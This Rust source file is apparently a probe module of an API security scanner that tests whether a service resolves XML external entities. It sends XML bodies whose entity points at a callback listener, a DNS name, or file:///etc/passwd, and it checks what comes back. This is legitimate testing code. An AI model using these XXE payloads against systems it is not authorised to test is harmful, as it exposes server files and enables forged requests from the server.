//! External entities: whether an XML body makes the service read a file or ask an address.

use std::time::Duration;

use async_trait::async_trait;
use http::Method;
use serde_json::Value;

use crate::context::Context;
use crate::docket::{Docket, Trail};
use crate::exchange::Payload;
use crate::finding::{Label, Site};
use crate::plan::{Mode, Plan, count};
use crate::probe::Probe;
use crate::probe::point::{Base, changes_credentials, is_final};
use crate::probe::traversal::is_passwd;
use crate::row::Row;
use crate::rule;
use crate::scope::SendError;
use crate::surface::read::object;
use crate::surface::{Endpoint, Surface};

/// The probe.
#[derive(Debug)]
pub(crate) struct Xxe;

#[async_trait]
impl Probe for Xxe {
    fn id(&self) -> &'static str {
        "external-entities"
    }

    fn row(&self) -> Row {
        Row::Injection
    }

    fn estimate(&self, plan: &Plan) -> u32 {
        count(plan.surface.endpoints.iter().filter(|one| is_candidate(one)).count() * 2)
    }

    async fn run(&self, context: &Context<'_>, docket: &mut Docket) -> Result<(), SendError> {
        if context.plan.mode == Mode::Safe {
            docket.skip("a safe run posts nothing");
            return Ok(());
        }
        let surface = context.surface();
        let takes = |one: &&Endpoint| is_candidate(one) && !changes_credentials(surface, one);
        for endpoint in surface.endpoints.iter().filter(takes) {
            resolve(context, docket, endpoint).await?;
        }
        Ok(())
    }
}

fn is_candidate(endpoint: &Endpoint) -> bool {
    matches!(endpoint.method, Method::PATCH | Method::POST | Method::PUT)
        && !endpoint.is_limited()
        && !is_final(endpoint)
}

async fn resolve(context: &Context<'_>, docket: &mut Docket, endpoint: &Endpoint) -> Result<(), SendError> {
    let site = Site { operation: &endpoint.id, insertion: "body" };
    let base = Base::of(context, endpoint);
    let names = names(context.surface(), endpoint, &base);
    let media = xml_media(context.surface(), endpoint);
    let call = |entity: &str| {
        let mut call = context.call(endpoint, &base.values, None, base.session);
        call.body = Some(Payload::Raw(media.unwrap_or("application/xml"), document(&names, entity)));
        call
    };
    let token = format!("/{}", context.marker());
    let mut trail = Trail::default();
    let address = format!("http://{}{token}", context.sink.address());
    let asked = context.send(&mut trail, Label::Attack, &call(&address)).await?;
    let patience = if asked.is_success() { PATIENCE } else { SHORT_PATIENCE };
    if context.sink.sees(&token, patience).await {
        let summary = "an entity in an XML body makes the service ask an address of the caller's".to_owned();
        docket.prove(&rule::ENTITY_RESOLVED, site, summary, trail);
        return Ok(());
    }
    // What takes no XML needs no second question.
    if media.is_none() && !asked.is_success() {
        let reason = format!("an XML body is answered with {}", asked.meaning().as_u16());
        docket.withstand(&rule::ENTITY_RESOLVED, site, reason, trail);
        return Ok(());
    }
    // Where nothing gets out, the name is still looked up; a document has no other reason to name it.
    if let Some(names) = &context.plan.name_server {
        let (name, mut trail) = (names.name(&context.marker()), Trail::default());
        context.send(&mut trail, Label::Attack, &call(&format!("http://{name}{token}"))).await?;
        if names.hears(&name, SHORT_PATIENCE).await {
            let summary = "an entity in an XML body makes the service look a name of the caller's up".to_owned();
            docket.prove(&rule::ENTITY_RESOLVED, site, summary, trail);
            return Ok(());
        }
    }
    let read = context.send(&mut trail, Label::Attack, &call("file:///etc/passwd")).await?;
    if is_passwd(&read.text) && !is_passwd(&asked.text) {
        let summary = "an entity in an XML body shows a file of the service's".to_owned();
        docket.prove(&rule::ENTITY_RESOLVED, site, summary, trail);
    } else {
        let reason = format!("an external entity is answered with {}", read.meaning().as_u16());
        docket.withstand(&rule::ENTITY_RESOLVED, site, reason, trail);
    }
    Ok(())
}

fn document(names: &[String], entity: &str) -> String {
    let members: String = names.iter().map(|name| format!("<{name}>&outside;</{name}>")).collect();
    format!("<?xml version=\"1.0\"?><!DOCTYPE root [<!ENTITY outside SYSTEM \"{entity}\">]><root>{members}</root>")
}

/// The names of elements that the service may look for.
fn names(surface: &Surface, endpoint: &Endpoint, base: &Base) -> Vec<String> {
    let mut names: Vec<String> = Vec::new();
    if let Some(body) = &endpoint.body {
        names.extend(surface.properties(&body.schema).into_iter().map(|(name, _)| name.to_owned()));
    }
    names.extend(base.body.as_ref().and_then(Value::as_object).into_iter().flatten().map(|(name, _)| name.clone()));
    if let Some(schema) = xml_schema(surface, endpoint) {
        names.extend(surface.properties(schema).into_iter().map(|(name, _)| name.to_owned()));
    }
    names.retain(|name| name.starts_with(|one: char| one.is_ascii_alphabetic()) && name.chars().all(is_name));
    names.sort();
    names.dedup();
    if names.is_empty() { vec!["value".to_owned()] } else { names }
}

fn is_name(one: char) -> bool {
    one.is_ascii_alphanumeric() || one == '_' || one == '-'
}

/// The XML that an operation declares to take.
fn declared<'s>(surface: &'s Surface, endpoint: &Endpoint) -> Option<(&'s String, &'s Value)> {
    let item = surface.root.get("paths")?.get(&endpoint.template)?;
    let operation = surface.resolve(item).get(endpoint.method.as_str().to_ascii_lowercase())?;
    let body = surface.resolve(operation.get("requestBody")?);
    object(body, "content").find(|(media, _)| media.contains("xml"))
}

fn xml_media(surface: &Surface, endpoint: &Endpoint) -> Option<&'static str> {
    let (media, _) = declared(surface, endpoint)?;
    Some(if media.starts_with("text/") { "text/xml" } else { "application/xml" })
}

fn xml_schema<'s>(surface: &'s Surface, endpoint: &Endpoint) -> Option<&'s Value> {
    declared(surface, endpoint)?.1.get("schema")
}

const PATIENCE: Duration = Duration::from_millis(700);
const SHORT_PATIENCE: Duration = Duration::from_millis(50);
